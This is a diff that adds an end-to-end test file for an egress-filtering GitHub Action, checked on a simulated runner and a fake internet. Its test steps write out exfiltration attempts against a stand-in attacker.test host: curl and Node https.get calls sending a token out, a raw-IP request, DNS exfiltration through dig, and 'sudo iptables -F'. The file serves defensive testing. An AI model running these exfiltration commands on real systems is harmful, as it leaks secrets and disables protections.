@@ -1,0 +1,176 @@
+/**
+ * The GitHub Action end to end, on a simulated GitHub-hosted runner (github-runner.ts) in the World's runner
+ * namespace, linked only to the World's fake internet: action-dist/main.js as `runner`, job steps as `runner`,
+ * then action-dist/post.js. The internet's own log is the judge of what got out.
+ */
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { after, before, describe, it } from 'node:test';
+import { NET, World, type InternetLogEntry } from './harness.js';
+import { DOCKER_SOCKET, parseCommandFile, SimulatedRunner, type Job } from './github-runner.js';
+
+const ALLOWED = 'allowed.test:443\nregistry.test:443';
+/** The documentation ranges are not public unicast: trusted, as a user trusts a private registry. */
+const TRUSTED = '203.0.113.0/24 2001:db8::/32';
+const SECRET = 'c2VjcmV0LXRva2Vu';
+
+interface StepResults {
+  allowed: Awaited<ReturnType<SimulatedRunner['step']>>;
+  attackerName: Awaited<ReturnType<SimulatedRunner['step']>>;
+  rawIp: Awaited<ReturnType<SimulatedRunner['step']>>;
+  preinstall: Awaited<ReturnType<SimulatedRunner['step']>>;
+  dnsViaResolver: Awaited<ReturnType<SimulatedRunner['step']>>;
+  dnsDirect: Awaited<ReturnType<SimulatedRunner['step']>>;
+}
+
+/** The job's steps: an allowed download, then what a compromised dependency tries. */
+async function jobSteps(runner: SimulatedRunner, world: World, job: Job): Promise<StepResults> {
+  const curl = (url: string, ...extra: string[]) => runner.step('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...extra, url], { env: job.env });
+  const preinstall = `require('https').get({ host: 'attacker.test', path: '/steal?token=${SECRET}', ca: require('fs').readFileSync(process.env.CA) }, (r) => { r.resume(); r.on('end', () => console.log('sent', r.statusCode)); }).on('error', (e) => { console.log('refused', e.code); process.exitCode = 1; }).setTimeout(8000, function () { this.destroy(new Error('timeout')); });`;
+  return {
+    allowed: await curl('https://allowed.test/'),
+    attackerName: await curl(`https://attacker.test/upload?token=${SECRET}`),
+    rawIp: await curl(`https://${NET.rawOnly}/raw?token=${SECRET}`, '-k'),
+    preinstall: await runner.step(process.execPath, ['-e', preinstall], { env: { ...job.env, CA: world.caFile } }),
+    dnsViaResolver: await runner.step('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`], { env: job.env }),
+    dnsDirect: await runner.step('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`], { env: job.env }),
+  };
+}
+
+function internetSince(world: World, since: number): InternetLogEntry[] {
+  return world.internetLog().filter((e) => e.time >= since);
+}
+
+function leaked(entries: readonly InternetLogEntry[]): InternetLogEntry[] {
+  return entries.filter((e) => JSON.stringify(e).includes(SECRET) || e.host === 'attacker.test' || e.local === NET.rawOnly || e.local === `::ffff:${NET.rawOnly}`);
+}
+
+function escapeRegExp(text: string): string {
+  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+
+/** An annotation line as the toolkit writes it (`:` in the title is escaped as %3A); `destination` is a pattern. */
+function annotation(level: 'error' | 'warning', outcome: 'blocked' | 'would-block', destination: string): RegExp {
+  return new RegExp(`^::${level} title=egress-guard ${outcome}%3A ${destination.replace(/:/g, '%3A')}::`, 'm');
+}
+
+function outputs(job: Job): Map<string, string> {
+  return parseCommandFile(readFileSync(job.files.output, 'utf8'));
+}
+
+describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000 }, () => {
+  let world: World;
+  before(async () => {
+    world = await World.create({ prefix: 'egact', sidecarUser: false, resolvConf: `nameserver ${NET.dns}\noptions attempts:1 timeout:2\n` });
+  });
+  after(async () => {
+    await world?.close();
+  });
+
+  it('block mode: nothing of the attack reaches the internet, the allowed host works, post fails the step (fail-on-block) and reports', async () => {
+    const runner = await SimulatedRunner.start(world, 'block');
+    try {
+      const job = runner.newJob('block', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED, 'fail-on-block': 'true' });
+      const main = await runner.runAction(job, 'main');
+      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
+      assert.doesNotMatch(main.stdout, /^::error/m);
+      assert.match(main.stdout, /created system user egress-guard/);
+      assert.match(main.stdout, /resolv\.conf \(was a file\) now names egress-guard/);
+      assert.equal(outputs(job).get('events-file'), '/var/lib/egress-guard/events.ndjson');
+      const since = Date.now();
+      const steps = await jobSteps(runner, world, job);
+      assert.equal(steps.allowed.code, 0, steps.allowed.stderr);
+      assert.match(steps.allowed.stdout, /hello from allowed\.test/);
+      assert.notEqual(steps.attackerName.code, 0, 'curl to attacker.test succeeded');
+      assert.notEqual(steps.rawIp.code, 0, 'curl to a raw IP succeeded');
+      assert.notEqual(steps.preinstall.code, 0, `preinstall https.get got through: ${steps.preinstall.stdout}`);
+      assert.doesNotMatch(steps.dnsViaResolver.stdout, /status: NOERROR/);
+      assert.doesNotMatch(steps.dnsDirect.stdout, /status: NOERROR/);
+      const seen = internetSince(world, since);
+      assert.deepEqual(leaked(seen), [], 'something of the attack reached the internet');
+      assert.ok(
+        seen.some((e) => e.type === 'http' && e.host === 'allowed.test'),
+        'the allowed request did not arrive',
+      );
+
+      const post = await runner.runAction(job, 'post');
+      assert.notEqual(post.code, 0, `post passed despite fail-on-block:\n${post.stdout}`);
+      assert.match(post.stdout, /^::error::egress-guard: \d+ destination\(s\) blocked, and fail-on-block is set: .*attacker\.test:53/m);
+      // The name is refused at the lookup (dns-policy), so curl and https.get never connect: the DNS rows.
+      assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
+      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.rawOnly)}:443`));
+      assert.match(post.stdout, annotation('error', 'blocked', `${SECRET.toLowerCase()}\\.exfil\\.attacker\\.test:53`));
+      assert.doesNotMatch(post.stdout, /^::(error|warning) title=egress-guard [a-z-]+%3A allowed\.test/m);
+      const blockedCount = Number(outputs(job).get('blocked-count'));
+      assert.ok(blockedCount >= 3, `blocked-count ${blockedCount}`);
+      const summary = readFileSync(job.files.summary, 'utf8');
+      assert.match(summary, /\| ⛔ blocked \| `attacker\.test:53` \|/);
+      assert.match(summary, /<details><summary>Suggested policy/);
+      // post undid main: no rules, egress-guard stopped, resolv.conf back.
+      const nat = await runner.asRoot('iptables', ['-t', 'nat', '-S']);
+      assert.doesNotMatch(nat.stdout, /EGRESS_GUARD/);
+      const resolv = await runner.asRoot('cat', ['/etc/resolv.conf']);
+      assert.match(resolv.stdout, new RegExp(`nameserver ${NET.dns.replace(/\./g, '\\.')}`));
+      assert.doesNotMatch((await runner.asRoot('ss', ['-Hltn', 'sport = :3129'])).stdout, /3129/);
+    } finally {
+      await runner.stop();
+    }
+  });
+
+  it('audit mode: every step works, each attack is a would-block warning and a summary row, post passes', async () => {
+    const runner = await SimulatedRunner.start(world, 'audit');
+    try {
+      const job = runner.newJob('audit', { 'egress-policy': 'audit', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
+      const main = await runner.runAction(job, 'main');
+      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
+      const steps = await jobSteps(runner, world, job);
+      for (const [name, result] of Object.entries(steps)) assert.equal(result.code, 0, `${name} broke in audit mode: ${result.stdout}${result.stderr}`);
+      assert.match(steps.attackerName.stdout, /hello from attacker\.test/);
+      assert.match(steps.dnsViaResolver.stdout, /status: NOERROR/);
+      const post = await runner.runAction(job, 'post');
+      assert.equal(post.code, 0, `post failed in audit mode:\n${post.stdout}`);
+      for (const destination of ['attacker.test:443', `${NET.rawOnly}:443`, `${SECRET.toLowerCase()}.exfil.attacker.test:53`, `${SECRET.toLowerCase()}.direct.attacker.test:53`]) {
+        assert.match(post.stdout, annotation('warning', 'would-block', escapeRegExp(destination)));
+      }
+      assert.doesNotMatch(post.stdout, /^::error/m);
+      const summary = readFileSync(job.files.summary, 'utf8');
+      assert.match(summary, /\| ⚠️ would-block \| `attacker\.test:443` \|/);
+      assert.match(summary, /\| ✅ allowed \| `allowed\.test:443` \|/);
+      assert.ok(summary.indexOf('⚠️ would-block |') < summary.indexOf('✅ allowed |'), 'would-block rows come first');
+      assert.ok(Number(outputs(job).get('blocked-count')) >= 3);
+    } finally {
+      await runner.stop();
+    }
+  });
+
+  it('disable-sudo: afterwards sudo iptables -F fails and the Docker socket refuses the job; post still reports', async () => {
+    const runner = await SimulatedRunner.start(world, 'nosudo');
+    try {
+      await runner.startFakeDockerd();
+      const job = runner.newJob('nosudo', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED, 'disable-sudo': 'true' });
+      const docker = () => runner.step('curl', ['-sS', '--max-time', '5', '--unix-socket', DOCKER_SOCKET, 'http://docker/_ping'], { env: job.env });
+      const sudoBefore = await runner.step('sudo', ['-n', 'true'], { env: job.env });
+      assert.equal(sudoBefore.code, 0, `runner has no sudo to begin with: ${sudoBefore.stderr}`);
+      assert.equal((await docker()).code, 0, 'runner cannot reach the docker socket to begin with');
+
+      const main = await runner.runAction(job, 'main');
+      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
+      assert.match(main.stdout, /disable-sudo: sudo denied to runner/);
+      const flush = await runner.step('sudo', ['-n', 'iptables', '-F'], { env: job.env });
+      assert.notEqual(flush.code, 0, 'sudo iptables -F still works');
+      assert.match((await runner.asRoot('iptables', ['-S'])).stdout, /EGRESS_GUARD_FILTER/);
+      const socket = await docker();
+      assert.notEqual(socket.code, 0, 'the docker socket still answers the job');
+      assert.match(socket.stderr, /Permission denied|Couldn't connect/i);
+      const attack = await runner.step('curl', ['-sS', '--max-time', '5', '--cacert', world.caFile, 'https://attacker.test/'], { env: job.env });
+      assert.notEqual(attack.code, 0);
+
+      const post = await runner.runAction(job, 'post');
+      assert.equal(post.code, 0, post.stdout);
+      assert.match(post.stdout, /sudo is disabled for this job, so egress-guard and its rules stay/);
+      assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
+    } finally {
+      await runner.stop();
+    }
+  });
+});
